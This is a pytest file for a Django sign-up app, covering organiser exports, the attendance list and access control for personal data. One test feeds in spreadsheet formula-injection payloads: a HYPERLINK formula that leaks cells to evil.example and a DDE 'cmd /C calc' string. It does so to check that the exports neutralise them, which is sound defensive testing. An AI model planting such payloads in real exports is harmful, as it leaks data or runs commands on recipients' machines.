"""The organisers' side of sign-ups: lists, exports, the attendance list, and nobody else seeing them."""

import csv
import io

import openpyxl
import pytest

from django.core.cache import cache
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from registrations.models import Registration
from tests.factories import member_of

from .registration_helpers import sign_up, signed_up_and_confirmed, training

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def fresh_rate_limit():
    cache.clear()


@pytest.fixture
def sign_ups():
    """Three sign-ups, made by a visitor of their own (the test's client stays the admin user's)."""
    visitor = Client()
    signed_up_and_confirmed(visitor, "zofia@example.org", name="Zofia Wójcik", institution="Urząd Miasta Gdańska")
    signed_up_and_confirmed(visitor, "per@example.org", "nb", name="Per Hansen", institution="Sunnfjord kommune")
    sign_up(visitor, "niepotwierdzona@example.org", name="Ola Niepotwierdzona")


def test_organisers_filter_the_sign_ups_of_an_event_and_export_them(client, django_user_model, sign_ups):
    member_of("Organizatorzy", django_user_model, client)
    index = reverse("sign_ups:index")
    confirmed = client.get(index, {"event": training().pk, "status": "confirmed"}).content.decode()
    assert "Zofia Wójcik" in confirmed and "Per Hansen" in confirmed and "Ola Niepotwierdzona" not in confirmed

    assert "Pobierz listę (Excel)" in confirmed and "Pobierz listę (CSV)" in confirmed  # buttons in sight
    per = Registration.objects.get(email="per@example.org")
    signed_up_in_warsaw = timezone.localtime(per.signed_up_at).replace(tzinfo=None, second=0, microsecond=0)

    # For Polish Excel: UTF-8 with a byte order mark, semicolons, words, times in Warsaw to the minute.
    export = client.get(index, {"event": training().pk, "status": "confirmed", "export": "csv"})
    content = b"".join(export.streaming_content).decode()
    assert content.startswith("\ufeff")
    heading, *rows = csv.reader(io.StringIO(content.removeprefix("\ufeff")), delimiter=";")
    assert len(heading) == 13
    by_name = {row[2]: row for row in rows}
    assert sorted(by_name) == ["Per Hansen", "Zofia Wójcik"]
    assert (by_name["Per Hansen"][1], by_name["Per Hansen"][9]) == ("miejsce potwierdzone", "norweski (bokmål)")
    assert by_name["Zofia Wójcik"][9] == "polski"
    assert by_name["Per Hansen"][10] == f"{signed_up_in_warsaw:%Y-%m-%d %H:%M}"

    export = client.get(index, {"event": training().pk, "status": "confirmed", "export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(export.streaming_content))).active
    by_name = {row[2]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert sorted(by_name) == ["Per Hansen", "Zofia Wójcik"]
    assert by_name["Zofia Wójcik"][4] == "Urząd Miasta Gdańska"
    assert by_name["Per Hansen"][1] == "miejsce potwierdzone" and by_name["Per Hansen"][10] == signed_up_in_warsaw


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&D2&";"&E2,"Kliknij")', "@SUM(1+1)*cmd|' /C calc'!A0"]


def test_a_name_written_as_a_formula_reaches_the_csv_as_text_and_the_xlsx_unchanged(client, django_user_model):
    visitor = Client()
    signed_up_and_confirmed(visitor, "formula@example.org", name=FORMULAS[0], institution=FORMULAS[1])
    signed_up_and_confirmed(visitor, "plus@example.org", name="+48 Kowalski", institution="-1+1")
    member_of("Organizatorzy", django_user_model, client)
    index = reverse("sign_ups:index")

    export = client.get(index, {"export": "csv"})
    content = b"".join(export.streaming_content).decode().removeprefix("\ufeff")
    _heading, *rows = csv.reader(io.StringIO(content), delimiter=";")
    cells = {cell for row in rows for cell in row[2:5]}
    assert {"'" + FORMULAS[0], "'" + FORMULAS[1], "'+48 Kowalski", "'-1+1"} <= cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)

    export = client.get(index, {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(export.streaming_content))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert FORMULAS[0] in [cell.value for cell in cells]
    assert all(cell.data_type != "f" for cell in cells)


def test_the_attendance_list_holds_the_confirmed_in_alphabetical_order(client, django_user_model, sign_ups):
    member_of("Organizatorzy", django_user_model, client)
    html = client.get(reverse("registrations_attendance_list", args=[training().pk])).content.decode()
    assert html.index("Per Hansen") < html.index("Zofia Wójcik")
    assert "Ola Niepotwierdzona" not in html and "Podpis" in html
    overview = client.get(reverse("registrations_events")).content.decode()
    for module in (1, 2, 3):  # the later modules have no sign-up yet
        assert training(slug=f"szkolenie-smup-modul-{module}").title in overview
    zofia = Registration.objects.get(email="zofia@example.org")
    inspected = client.get(reverse("sign_ups:inspect", args=[zofia.pk])).content.decode()
    assert "Urząd Miasta Gdańska" in inspected and zofia.consent_version.sha256[:12] in inspected
    assert "Treść zgody – język: polski, pierwsza zgoda" in inspected  # named, the digest a detail


def test_an_administrator_sees_the_sign_ups(admin_client, sign_ups):
    assert "Zofia Wójcik" in admin_client.get(reverse("sign_ups:index")).content.decode()


@pytest.mark.parametrize("group", ["Redaktorzy", "Moderatorzy", "Newsletter", "Tłumacze NB"])
def test_nobody_else_sees_the_personal_data(client, django_user_model, sign_ups, group):
    member_of(group, django_user_model, client)
    registration = Registration.objects.get(email="zofia@example.org")
    for url in (
        reverse("sign_ups:index"),
        reverse("sign_ups:index") + "?export=csv",
        reverse("sign_ups:inspect", args=[registration.pk]),
        reverse("registrations_attendance_list", args=[training().pk]),
        reverse("registrations_events"),
    ):
        response = client.get(url)
        assert response.status_code in (302, 403), url
        assert "Zofia" not in response.content.decode()
